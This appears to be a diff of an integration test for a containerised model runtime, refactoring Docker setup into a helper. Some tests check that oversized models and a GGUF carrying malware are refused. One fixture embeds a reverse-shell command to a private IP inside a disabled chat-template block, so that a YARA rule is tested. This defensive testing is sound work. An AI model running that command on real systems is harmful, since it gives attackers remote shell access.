@@ -127,23 +127,31 @@ describe('deploy: the workspace policy and the networks (real Docker engine)', f
 
     // The same image and command with a model the shipped policy refuses (over its 500KB limit) mounted in
     // its place: the runtime in the container refuses it before loading.
+    const { status, logs } = await runtimeWithModel(d.image, bigFile);
+    assert.equal(status, 1, logs);
+    assert.match(logs, /refused to load \/models\/model\.gguf: policy rule max-file-size: .* above the limit of 500KB/);
+  });
+
+  /**
+   * The deployment's image and runtime command (its shipped policy, the isolation) with `model` mounted in place of
+   * the registered model: the exit status and the logs of the runtime.
+   */
+  async function runtimeWithModel(image: string, model: string): Promise<{ status: number; logs: string }> {
     const c = await docker.createContainer({
-      Image: d.image,
+      Image: image,
       Cmd: ['--model', '/models/model.gguf', '--policy', '/policy/policy.yaml', '--host', '0.0.0.0', '--port', '8080', '--threads', '1'],
       User: '10001:10001',
       Env: ['HOME=/tmp', 'NODE_LLAMA_CPP_SKIP_DOWNLOAD=true'],
-      HostConfig: { NetworkMode: 'none', ReadonlyRootfs: true, Tmpfs: { '/tmp': 'rw,size=64m' }, Binds: [`${bigFile}:/models/model.gguf:ro`] },
+      HostConfig: { NetworkMode: 'none', ReadonlyRootfs: true, Tmpfs: { '/tmp': 'rw,size=64m' }, Binds: [`${model}:/models/model.gguf:ro`] },
     } as never);
     try {
       await c.start();
-      const status = (await c.wait()) as { StatusCode: number };
-      const logs = ((await c.logs({ stdout: true, stderr: true })) as Buffer).toString('latin1');
-      assert.equal(status.StatusCode, 1, logs);
-      assert.match(logs, /refused to load \/models\/model\.gguf: policy rule max-file-size: .* above the limit of 500KB/);
+      const { StatusCode } = (await c.wait()) as { StatusCode: number };
+      return { status: StatusCode, logs: ((await c.logs({ stdout: true, stderr: true })) as Buffer).toString('latin1') };
     } finally {
       await c.remove({ force: true }).catch(() => undefined);
     }
-  });
+  }
 
   it('the runtime in the container runs the malware rules on load: a GGUF with a reverse shell in its chat template, mounted in place of the registered model (registration bypassed), is refused', async () => {
     let [d] = await listDeployments({ docker, model: 'pgood' });
@@ -154,23 +162,10 @@ describe('deploy: the workspace policy and the networks (real Docker engine)', f
     // Structurally valid (the format reader passes it) and under the policy's size limit: only the rules refuse it.
     const evil = join(repo.base, 'revshell.gguf');
     await writeTinyLlama(evil, { name: 'policy-revshell', f16: true, chatTemplate: `${CHATML_TEMPLATE}{% if false %}{{ 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }}{% endif %}` });
-    const c = await docker.createContainer({
-      Image: d.image,
-      Cmd: ['--model', '/models/model.gguf', '--policy', '/policy/policy.yaml', '--host', '0.0.0.0', '--port', '8080', '--threads', '1'],
-      User: '10001:10001',
-      Env: ['HOME=/tmp', 'NODE_LLAMA_CPP_SKIP_DOWNLOAD=true'],
-      HostConfig: { NetworkMode: 'none', ReadonlyRootfs: true, Tmpfs: { '/tmp': 'rw,size=64m' }, Binds: [`${evil}:/models/model.gguf:ro`] },
-    } as never);
-    try {
-      await c.start();
-      const status = (await c.wait()) as { StatusCode: number };
-      const logs = ((await c.logs({ stdout: true, stderr: true })) as Buffer).toString('latin1');
-      assert.equal(status.StatusCode, 1, logs);
-      assert.match(logs, /refused to load \/models\/model\.gguf before any native code saw it: rule yara\/reverse_shell \(critical\)/);
-      assert.doesNotMatch(logs, /yara\/unavailable/, 'the engine and the default pack are in the image');
-    } finally {
-      await c.remove({ force: true }).catch(() => undefined);
-    }
+    const { status, logs } = await runtimeWithModel(d.image, evil);
+    assert.equal(status, 1, logs);
+    assert.match(logs, /refused to load \/models\/model\.gguf before any native code saw it: rule yara\/reverse_shell \(critical\)/);
+    assert.doesNotMatch(logs, /yara\/unavailable/, 'the engine and the default pack are in the image');
   });
 
   it('an active exception waives a rule on the host and in the container (its use audited); without it the version is refused', async () => {
